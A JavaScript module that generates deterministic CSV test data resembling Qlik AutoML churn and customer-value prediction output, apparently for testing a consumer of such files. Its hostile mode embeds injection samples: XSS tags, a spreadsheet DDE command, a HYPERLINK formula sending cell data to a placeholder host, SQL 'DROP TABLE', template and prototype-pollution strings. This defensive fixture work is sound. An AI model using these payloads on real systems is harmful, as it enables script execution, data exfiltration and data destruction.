// The cells of the generated files: deterministic CSV shaped like Qlik AutoML prediction
// output (a churn model with target `Churned`, or a 3-class model with target
// `CustomerValue`). Every cell is a pure function of (seed, row index), the seed derived from
// (prediction ID, file, refId), so any row can be made again, in any order.

// Hashing: a stateless 32-bit mix of (seed, row, column), so any cell is random-access.

export function fnv1a(str) {
  let h = 0x811c9dc5;
  for (const b of Buffer.from(str, 'utf8')) {
    h ^= b;
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

function rnd(seed, row, k) {
  let h = seed ^ Math.imul(row | 0, 0x9e3779b1) ^ Math.imul((row / 4294967296) | 0, 0x27d4eb2f);
  h ^= Math.imul(k + 1, 0x85ebca77);
  h ^= h >>> 16;
  h = Math.imul(h, 0x7feb352d);
  h ^= h >>> 15;
  h = Math.imul(h, 0x846ca68b);
  h ^= h >>> 16;
  return h >>> 0;
}

const D4 = Array.from({ length: 10000 }, (_, i) => String(i).padStart(4, '0'));
const D1 = Array.from({ length: 10 }, (_, i) => String(i));

function pad9(n) {
  return D1[Math.floor(n / 100000000)] + D4[Math.floor(n / 10000) % 10000] + D4[n % 10000];
}

function csvField(value) {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

// A probability pair with 9 decimals that sums to exactly 1.
function probPair(h) {
  const p = h % 1000000000;
  const q = 1000000000 - p;
  return [q === 1000000000 ? '1.000000000' : `0.${pad9(q)}`, `0.${pad9(p)}`];
}

// How much each feature moves the model: feature k's SHAP values shrink with k, so a chart of
// mean |SHAP| per feature shows a clear ranking, as real models do.
const SHAP_SCALE = Array.from({ length: 64 }, (_, k) => 1 / (1 + 0.35 * k));

// A signed SHAP value with 8, 10, 12 or 14 decimals, mostly within (-1, 1), scaled for feature
// `k` (the scale changes digits, never the length).
function shapValue(h1, h2, k = 0) {
  const sign = h1 & 1 ? '-' : '';
  const intPart = k < 3 && ((h1 >>> 1) & 15) >= 12 ? (h1 >>> 5) & 3 : 0;
  const lead = D4[h2 % 10000];
  const first = Math.floor(Number(lead[0]) * SHAP_SCALE[k % 64]);
  let s = `${sign}${intPart}.${first}${lead.slice(1)}${D4[(h2 >>> 14) % 10000]}`;
  const extra = (h1 >>> 8) & 3;
  if (extra >= 2) s += D4[(h1 >>> 12) % 10000];
  if (extra & 1) s += D4[(h1 >>> 20) % 100].slice(2);
  return s;
}

// ---------------------------------------------------------------------------------------
// Model shapes.

const FEATURES = [
  'Territory', 'Country', 'DeviceType', 'Promotion', 'HasRenewed', 'PlanType', 'BaseFee',
  'NumberOfPenalties', 'CurrentPeriodUsage', 'PriorPeriodUsage', 'ServiceRating',
  'ServiceTickets', 'StartMonth', 'StartWeek', 'Tenure', 'AdditionalFeatureSpend',
  'DaysSinceLastService',
];

const VOCAB = {
  Territory: ['Northern Europe', 'Southern Europe', 'Paris, Île-de-France', 'Kantō', 'São Paulo, SP',
    'East Coast', 'West Coast', 'Bavaria, München', 'Québec', 'APAC'],
  Country: ['France', '日本', 'México', 'Deutschland', "Côte d'Ivoire", 'United States', 'Sverige',
    'Brasil', 'India', 'Ελλάδα', 'Canada', 'Danmark'],
  DeviceType: ['Desktop', 'Mobile', 'Tablet', 'Smart TV'],
  Promotion: ['None', '', 'Discount 10%', 'Free month 🎁', 'Bundle: phone, tablet', 'Say "hello" offer',
    'Summer sale ☀️', 'None'],
  HasRenewed: ['yes', 'no'],
  PlanType: ['Basic', 'Standard', 'Premium'],
};
const VOCAB_CSV = Object.fromEntries(Object.entries(VOCAB).map(([k, v]) => [k, v.map(csvField)]));

const HOSTILE_ID = '<img src=x onerror=alert(1)>';
const HOSTILE_NOTES = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("xss")</script>',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  'line one\r\nline two',
  'javascript:alert(document.cookie)',
  '</td></tr></table><h1>injected</h1>',
  "{{constructor.constructor('alert(1)')()}}",
  "'; DROP TABLE predictions; --",
  '\u202Egnp.exe',
  'null',
  'undefined',
  ' leading and trailing spaces ',
  '"quoted"',
  '',
].map(csvField);
const HOSTILE_PROTO = csvField('{"polluted":true}');

const REASONS = [
  'Missing value in column "Tenure", row skipped',
  'Value "n/a" could not be converted to a number, column AdditionalFeatureSpend',
  'Unknown category "Platinum" in column PlanType, not seen during training',
  'Too many missing features (7 of 17)',
  'Date out of range: 1899-12-31, column StartMonth',
  'Valeur manquante dans la colonne "Tenure", ligne ignorée',
].map(csvField);
const HOSTILE_REASONS = [...REASONS, csvField('<img src=x onerror=alert(2)> in column "Territory"')];

const BINARY = { target: 'Churned', classes: ['no', 'yes'] };
const MULTI = { target: 'CustomerValue', classes: ['low', 'medium', 'high'] };

// One not-predicted reason per block of this many accounts (fewer for hostile datasets).
const REASON_BLOCK = 50;
const HOSTILE_REASON_BLOCK = 5;

function accountId(ds, a) {
  return ds.hostile && a === 0 ? HOSTILE_ID : `aa${10000 + a}`;
}

// Above this many rows, the random part of a row repeats with a period of about CYCLE_ROWS
// rows (account IDs and the source `index` stay unique), so large files cost one cached
// string per row instead of a freshly formatted one.
const UNIQUE_ROWS = 8_192;
const CYCLE_ROWS = 8_192;

// Each builder returns { header, ascii, count, lead(j), body(v, pad), trail(j), unit }:
// `count` data rows (Infinity in bytes mode); row j is lead(j) + body(v, pad) + trail(j)
// without its line ending, where v = j, or j modulo a multiple of `unit` rows when the file
// cycles. `body(v, pad)` carries `pad` extra bytes of padding inside one field (zeros after a
// decimal number, or spaces in a text field), so that it is exactly `pad` bytes longer than
// `body(v, 0)`. `ascii` tells whether every row is ASCII (byte length = string length).
export const BUILDERS = {
  predictions(ds, seed, accounts) {
    const model = ds.multiclass ? MULTI : BINARY;
    const header = ['AccountID', `${model.target}_predicted`, ...model.classes.map((c) => `${model.target}_${c}`)].join(',');
    const f = (v) => (v === 1000000000 ? '1.000000000' : `0.${pad9(v)}`);
    const body = ds.multiclass
      ? (j, pad) => {
        const a = rnd(seed, j, 1) % 1000000000;
        const b = rnd(seed, j, 2) % (1000000000 - a);
        const c = 1000000000 - a - b;
        const best = a >= b && a >= c ? 0 : b >= c ? 1 : 2;
        return `,${MULTI.classes[best]},${f(a)},${f(b)},${f(c)}${pad ? '0'.repeat(pad) : ''}`;
      }
      : (j, pad) => {
        const [no, yes] = probPair(rnd(seed, j, 1));
        return `,${yes >= '0.5' ? 'yes' : 'no'},${no},${yes}${pad ? '0'.repeat(pad) : ''}`;
      };
    return { header, ascii: true, count: accounts, lead: (j) => accountId(ds, j), body, unit: 1 };
  },

  shap(ds, seed, accounts) {
    const header = ['AccountID', ...FEATURES.map((f) => `${f}_SHAP`)].join(',');
    const n = FEATURES.length;
    const body = (j, pad) => {
      let s = '';
      for (let k = 0; k < n; k++) s += `,${shapValue(rnd(seed, j, 100 + 2 * k), rnd(seed, j, 101 + 2 * k), k)}`;
      return pad ? s + '0'.repeat(pad) : s;
    };
    return { header, ascii: true, count: accounts, lead: (j) => accountId(ds, j), body, unit: 1 };
  },

  'coordinate-shap'(ds, seed, accounts) {
    const classes = ds.multiclass ? MULTI.classes : [null];
    const per = FEATURES.length * classes.length;
    const header = ds.multiclass ? 'AccountID,automl_feature,SHAP_value,automl_class' : 'AccountID,automl_feature,SHAP_value';
    const body = (j, pad) => {
      const a = Math.floor(j / per);
      const r = j - a * per;
      const c = Math.floor(r / FEATURES.length);
      const k = r - c * FEATURES.length;
      const v = shapValue(rnd(seed, a, 100 + 2 * k + 64 * c), rnd(seed, a, 101 + 2 * k + 64 * c), (k + 5 * c) % FEATURES.length);
      const s = `,${FEATURES[k]},${v}${pad ? '0'.repeat(pad) : ''}`;
      return classes[c] === null ? s : `${s},${classes[c]}`;
    };
    return {
      header, ascii: true, count: accounts * per, lead: (j) => accountId(ds, Math.floor(j / per)), body, unit: per,
    };
  },

  'not-predicted-reasons'(ds, seed, accounts) {
    const vocab = ds.hostile ? HOSTILE_REASONS : REASONS;
    const block = ds.hostile ? HOSTILE_REASON_BLOCK : REASON_BLOCK;
    // Reason j is for an account chosen within block j of `block` accounts.
    const count = accounts === Infinity ? Infinity : Math.ceil(accounts / block);
    const lead = (j) => {
      const start = j * block;
      return accountId(ds, start + (rnd(seed, j, 7) % Math.min(block, accounts - start)));
    };
    const body = (j, pad) => {
      const reason = ds.hostile && j === 0 ? vocab[vocab.length - 1] : vocab[rnd(seed, j, 8) % vocab.length];
      if (!pad) return `,${reason}`;
      return reason.endsWith('"') ? `,${reason.slice(0, -1)}${' '.repeat(pad)}"` : `,${reason}${' '.repeat(pad)}`;
    };
    return { header: 'AccountID,reason', ascii: false, count, lead, body, unit: 1 };
  },

  source(ds, seed, accounts) {
    const cols = ['AccountID', ...FEATURES];
    if (ds.hostile) cols.push('Notes', '__proto__');
    cols.push('index');
    const V = VOCAB_CSV;
    const num = (v, d) => (v / 10 ** d).toFixed(d);
    const body = (j, pad) => {
      const h = (k) => rnd(seed, j, 300 + k);
      const h9 = h(9);
      const h10 = h(10);
      const h15 = h(15);
      const h16 = h(16);
      let s = `,${ds.hostile && j % 7 === 3 ? csvField(HOSTILE_ID) : V.Territory[h(0) % V.Territory.length]}`;
      s += `,${V.Country[h(1) % V.Country.length]}`;
      s += `,${V.DeviceType[h(2) % V.DeviceType.length]}`;
      s += `,${V.Promotion[h(3) % V.Promotion.length]}`;
      s += `,${V.HasRenewed[h(4) & 1]}`;
      s += `,${V.PlanType[h(5) % 3]}`;
      s += `,${num(999 + (h(6) % 9000), 2)}${pad ? '0'.repeat(pad) : ''}`;
      s += `,${h(7) % 6}`;
      s += `,${num(h(8) % 500000, 3)}`;
      s += `,${h9 % 33 === 0 ? '' : num((h9 >>> 6) % 500000, 3)}`;
      s += `,${h10 % 20 === 0 ? '' : num((h10 >>> 5) % 51, 1)}`;
      s += `,${h(11) % 12}`;
      s += `,${1 + (h(12) % 12)}`;
      s += `,${1 + (h(13) % 52)}`;
      s += `,${num(h(14) % 12000, 2)}`;
      s += `,${h15 % 12 === 0 ? '' : num((h15 >>> 4) % 250000, 2)}`;
      s += `,${h16 % 25 === 0 ? '' : (h16 >>> 5) % 400}`;
      if (ds.hostile) {
        s += `,${j === 0 ? HOSTILE_NOTES[0] : HOSTILE_NOTES[h(17) % HOSTILE_NOTES.length]}`;
        s += `,${HOSTILE_PROTO}`;
      }
      return s;
    };
    return {
      header: cols.join(','), ascii: false, count: accounts, lead: (j) => accountId(ds, j), body, trail: (j) => `,${j}`, unit: 1,
    };
  },
};

// Row j of a builder as a function (j, pad) -> string, caching bodies when the file cycles.
export function rowFunction(b) {
  const { lead, body, trail } = b;
  if (b.count <= UNIQUE_ROWS) {
    return trail ? (j, pad) => lead(j) + body(j, pad) + trail(j) : (j, pad) => lead(j) + body(j, pad);
  }
  const period = Math.ceil(CYCLE_ROWS / b.unit) * b.unit;
  const cache = new Array(period);
  const cached = (j, pad) => {
    const v = j % period;
    if (pad) return body(v, pad);
    let s = cache[v];
    if (s === undefined) {
      // Flattened once, so later concatenations copy a flat string.
      s = body(v, 0);
      s = Buffer.from(s).toString();
      cache[v] = s;
    }
    return s;
  };
  return trail ? (j, pad) => lead(j) + cached(j, pad) + trail(j) : (j, pad) => lead(j) + cached(j, pad);
}
